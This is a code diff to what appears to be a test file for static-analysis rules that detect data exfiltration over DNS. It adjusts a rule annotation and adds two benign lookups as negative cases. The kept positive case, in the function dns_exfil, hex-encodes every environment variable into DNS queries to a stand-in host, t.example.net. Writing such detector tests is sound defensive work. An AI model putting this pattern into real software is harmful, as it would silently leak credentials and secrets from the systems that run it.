@@ -39,8 +39,12 @@ def fingerprint():
 
 def dns_exfil():
     for key, value in os.environ.items():
-        # ruleid: py-data-to-dns, py-dns-name-from-data
+        # ruleid: py-data-to-dns
         dns.resolver.resolve(f"{value.encode().hex()}.{key}.t.example.net")
+    # ok: py-data-to-dns, py-dns-name-from-data, py-raw-network
+    socket.getaddrinfo(os.environ["DB_HOST"], 5432)
+    # ok: py-data-to-dns, py-dns-name-from-data
+    socket.getaddrinfo(os.environ.get("CACHE_HOST", "localhost") + ".svc.cluster.local", 6379)
 
 
 def fine(host):
